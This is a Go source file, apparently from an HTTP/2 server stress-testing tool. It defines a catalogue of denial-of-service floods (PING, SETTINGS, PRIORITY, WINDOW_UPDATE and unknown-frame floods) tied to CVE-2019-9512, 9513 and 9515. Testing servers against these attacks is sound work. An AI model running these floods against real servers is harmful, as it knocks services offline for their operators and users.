// SPDX-License-Identifier: Apache-2.0

package main

import "golang.org/x/net/http2"

var floods = family{"frames that cost the server more than the client", []attack{
	{
		name: "ping-flood", cve: "CVE-2019-9512", about: "sends PINGs, each to be answered",
		more: flood((*hostile).ping),
	},
	{
		name: "ping-flood-with-calls", variant: true, cve: "CVE-2019-9512", about: "the same with a call in between, now and then",
		more: func(h *hostile) bool {
			h.call()
			for !h.full() {
				h.ping()
			}
			return true
		},
	},
	{
		name: "settings-flood", cve: "CVE-2019-9515", about: "sends SETTINGS, each to be acknowledged",
		more: flood(func(h *hostile) { must(h.framer.WriteSettings()) }),
	},
	{
		name: "settings-windows", cve: "CVE-2019-9515", about: "opens many calls and changes all their windows by SETTINGS, again and again",
		open: func(h *hostile) {
			for range h.portion(heldStreams) {
				h.request(chargePath, false)
			}
		},
		more: flood(func(h *hostile) {
			h.turn++
			h.setting(http2.SettingInitialWindowSize, uint32(h.turn%2))
		}),
	},
	{
		name: "settings-table", variant: true, cve: "CVE-2019-9515", about: "changes the size of the compression table by SETTINGS between calls, again and again",
		more: flood(func(h *hostile) {
			h.turn++
			h.setting(http2.SettingHeaderTableSize, uint32(h.turn%2)*4096)
			if h.turn%64 == 0 {
				h.call()
			}
		}),
	},
	{
		name: "priority-flood", cve: "CVE-2019-9513", about: "shuffles the priorities of streams, open and not yet open",
		open: func(h *hostile) {
			for range h.portion(heldStreams) {
				h.request(chargePath, false)
			}
		},
		more: flood(func(h *hostile) {
			h.turn++
			id := uint32(h.turn%1000)*2 + 1
			h.priority(id, id+2, uint8(h.turn))
		}),
	},
	{
		name: "window-flood", variant: true, about: "gives one byte of window at a time, to the connection and to a stream",
		open: func(h *hostile) { h.request(chargePath, false) },
		more: flood(func(h *hostile) {
			h.turn++
			h.windowUpdate(uint32(h.turn%2), 1)
		}),
	},
	{
		name: "unknown-flood", variant: true, about: "sends frames of a type that nobody knows, which must be ignored",
		more: flood(func(h *hostile) { must(h.framer.WriteRawFrame(0xbb, 0, 0, nil)) }),
	},
}}

// flood appends the same again and again.
func flood(one func(h *hostile)) func(h *hostile) bool {
	return func(h *hostile) bool {
		for !h.full() {
			one(h)
		}
		return true
	}
}
